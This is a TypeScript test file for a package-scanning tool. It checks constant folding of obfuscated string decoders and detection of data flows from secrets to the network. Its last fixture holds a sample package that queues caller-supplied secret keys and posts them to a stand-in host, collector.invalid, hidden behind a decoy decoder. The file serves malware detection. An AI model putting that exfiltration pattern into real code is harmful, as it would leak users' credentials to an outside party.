import { parse, type Program } from 'acorn'
import t from 'tap'
import { Budget } from '../../../../../lib/inspect/code/fold/budget.ts'
import { foldProgram } from '../../../../../lib/inspect/code/fold/fold-program.ts'
import { inspectPackage } from '../../../../../lib/inspect/inspect-package.ts'

/** What the last expression of that text folded to. */
function folded(source: string, expression: string): unknown {
  const program: Program = parse(source, { ecmaVersion: 'latest', sourceType: 'module' })
  let last: unknown
  for (const [node, { value }] of foldProgram(program, source, new Budget({})).constants)
    if (source.slice(node.start, node.end) === expression) last = value
  return last
}

/** Decodes something, so that the file is folded at all. */
const decoy = "const y = [104, 105].map(n => String.fromCharCode(n)).join('')\n"

/** State that one function fills and another tests: what it was when loading ended says nothing. */
const states: readonly (readonly [name: string, source: string, tested: string])[] = [
  [
    'a variable',
    'let on = false\nconst start = () => { on = true }\nexport const f = () => { DECOY if (on) go() }',
    'on',
  ],
  [
    'a list',
    'const list = []\nexport const add = x => list.push(x)\nexport const f = () => { DECOY while (list.length) go() }',
    'list.length',
  ],
  [
    'a list, by text',
    "const list = []\nexport const add = x => list['push'](x)\nexport const f = () => { DECOY while (list.length) go() }",
    'list.length',
  ],
  [
    'a list by another name',
    'const list = []\nconst other = list\nexport const add = x => other.push(x)\nexport const f = () => { DECOY if (list.length) go() }',
    'list.length',
  ],
  [
    'a list that a helper fills',
    'const list = []\nconst put = (to, x) => to.push(x)\nexport const add = x => put(list, x)\nexport const f = () => { DECOY if (list.length) go() }',
    'list.length',
  ],
  [
    'a list asked for its length by another function',
    'const list = []\nexport const add = x => list.push(x)\nconst more = () => list.length > 0\nexport const f = () => { DECOY while (more()) go() }',
    'more()',
  ],
  [
    'a list that a function gives out',
    'const list = []\nconst all = () => list\nexport const add = x => all().push(x)\nexport const f = () => { DECOY if (all().length) go() }',
    'all().length',
  ],
  [
    'a field',
    "const state = { host: 'a', key: null }\nexport const set = k => { state.key = k }\nexport const f = () => { DECOY if (state.key) go() }",
    'state.key',
  ],
  [
    'a field of a field',
    'const state = { inner: { key: null } }\nconst { inner } = state\nexport const set = k => { inner.key = k }\nexport const f = () => { DECOY if (state.inner.key) go() }',
    'state.inner.key',
  ],
  [
    'a field that another file sets',
    "const state = { host: 'a', key: null }\nmodule.exports = state\nstate.f = () => { DECOY if (state.key) go() }",
    'state.key',
  ],
  [
    'a list that another file fills',
    'export const list = []\nexport const f = () => { DECOY if (list.length) go() }',
    'list.length',
  ],
  [
    'a variable inside a function around the file',
    '(() => { let on = false; exports.start = () => { on = true }; exports.f = () => { DECOY if (on) go() } })()',
    'on',
  ],
  [
    'a variable that is counted',
    'let n = 0\nexport const add = () => { n++ }\nexport const f = () => { DECOY if (n > 0) go() }',
    'n > 0',
  ],
  [
    'a variable that a pattern sets',
    'let key = null\nexport const set = o => { ({ key } = o) }\nexport const f = () => { DECOY if (key) go() }',
    'key',
  ],
  [
    'a text that is filled in later',
    "let key = ''\nexport const set = k => { key = k }\nexport const f = () => { DECOY const now = key; if (now !== '') go() }",
    "now !== ''",
  ],
]

t.test('what functions may change after loading is not taken for constant', t => {
  for (const [name, source, tested] of states)
    t.equal(folded(source.replace('DECOY', decoy), tested), undefined, name)
  t.end()
})

/** Decoders keep tables, caches and themselves in variables too. */
const decoders: readonly (readonly [name: string, source: string])[] = [
  [
    'a table that was filled while loading',
    "let table\nfunction init() { table = ['c2VjcmV0', 'aGk=', 'b3RoZXI=', 'ZGF0YQ=='] }\ninit()\nconst d = i => atob(table[i])\nexport const f = () => go(d(0))",
  ],
  [
    'a cache of results',
    "const table = ['c2VjcmV0', 'aGk=', 'b3RoZXI=', 'ZGF0YQ==']\nconst cache = {}\nfunction d(i) { if (cache[i] === undefined) cache[i] = atob(table[i]); return cache[i] }\nexport const f = () => go(d(0))",
  ],
  [
    'a table made on first use',
    "let table\nfunction d(i) { if (!table) table = ['c2VjcmV0', 'aGk=', 'b3RoZXI=', 'ZGF0YQ==']; return atob(table[i]) }\nexport const f = () => go(d(0))",
  ],
  [
    'a table that a function gives out',
    "const table = ['c2VjcmV0', 'aGk=', 'b3RoZXI=', 'ZGF0YQ==']\nconst all = () => table\nconst d = i => atob(all()[i])\nexport const f = () => go(d(0))",
  ],
  [
    'a table handed to the decoder',
    "const table = ['c2VjcmV0', 'aGk=', 'b3RoZXI=', 'ZGF0YQ==']\nconst d = (from, i) => atob(from[i])\nexport const f = () => go(d(table, 0))",
  ],
  [
    'a decoder that replaces itself',
    "var d = function (i) { const t = ['c2VjcmV0', 'aGk=', 'b3RoZXI=', 'ZGF0YQ==']; d = function (j) { return atob(t[j]) }; return d(i) }\nexport const f = () => go(d(0))",
  ],
  [
    'a decoder that keeps its cache on itself',
    "function d(i) { const t = ['c2VjcmV0', 'aGk=', 'b3RoZXI=', 'ZGF0YQ==']; d.cache = d.cache || {}; return d.cache[i] = d.cache[i] || atob(t[i]) }\nexport const f = () => go(d(0))",
  ],
  [
    'numbers handed to the decoder',
    "const codes = [115, 101, 99, 114, 101, 116]\nconst d = list => list.map(n => String.fromCharCode(n)).join('')\nexport const f = () => go(d(codes))",
  ],
]

t.test('decoders are', t => {
  for (const [name, source] of decoders) {
    const call = source.includes('d(table, 0)')
      ? 'd(table, 0)'
      : source.includes('d(codes)')
        ? 'd(codes)'
        : 'd(0)'
    t.equal(folded(source, call), 'secret', name)
  }
  t.end()
})

t.test('a table whose elements were changed by what was not followed is not taken for constant', t => {
  for (const fill of [
    'for (const one of table) one.text = read(one.name)',
    'for (const one of table) Object.defineProperty(one, "text", { value: read(one.name) })',
    'table.forEach(one => { one.text = read(one.name) })',
    'table.map(one => Object.assign(one, { text: read(one.name) }))',
  ]) {
    const texts = "table.map(one => (one.text ? Buffer.from(one.text).toString('base64') : '')).join()"
    const source = `const table = [{ name: 'a' }, { name: 'b' }]\n${fill}\ngo(${texts})`
    t.equal(folded(source, texts), undefined, fill)
  }
  t.end()
})

t.test('a queue of secrets behind a test is sent, whatever else the file decodes', t => {
  const file = (path: string, content: string) => ({ path, bytes: Buffer.from(content), mode: 0o644 })
  const code = `const axios = require('axios')
    const pending = []
    exports.sign = secretKey => { pending.push(secretKey); return secretKey }
    exports.flush = async () => {
      ${decoy}
      while (pending.length) await axios.post('https://collector.invalid/', { k: pending.shift() })
    }`
  const files = [file('package.json', '{"name":"x","version":"1.0.0"}'), file('index.js', code)]
  const { flows } = inspectPackage({ files, tricks: [], gaps: [], bytes: 0 }, { source: 'registry' })
  t.match(flows, [{ source: { kind: 'caller-secret' }, sink: { kind: 'network' } }])
  t.end()
})
